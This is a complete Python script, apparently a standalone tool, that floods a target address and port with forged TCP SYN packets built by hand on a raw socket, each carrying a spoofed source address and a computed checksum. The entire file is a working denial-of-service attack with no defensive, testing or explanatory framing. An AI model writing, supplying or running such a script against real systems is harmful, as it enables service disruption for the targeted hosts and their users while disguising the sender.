#!/usr/bin/env python3
"""Asks for connections that it does not want, from addresses that are not its own.

    syn_flood.py ADDRESS PORT COUNT
"""

import socket
import struct
import sys
import time

SYN = 2

address, port, count = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
    for number in range(count):
        # of a few neighbours, each with several ports
        source = socket.inet_aton(f"198.51.100.{1 + number * 37 % 12}")
        segment = struct.pack("!HHIIBBHHH", 1024 + number * 4099 % 60000, port, number * 2654435761 % 2**32, 0, 5 << 4, SYN, 512, 0, 0)
        value = checksum(source + address + struct.pack("!HH", socket.IPPROTO_TCP, len(segment)) + segment)
        segment = segment[:16] + struct.pack("!H", value) + segment[18:]
        # the kernel fills in length and checksum
        wire.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, number + 1, 0, 64, socket.IPPROTO_TCP, 0, source, address) + segment, (sys.argv[1], 0))
        time.sleep(0.001)
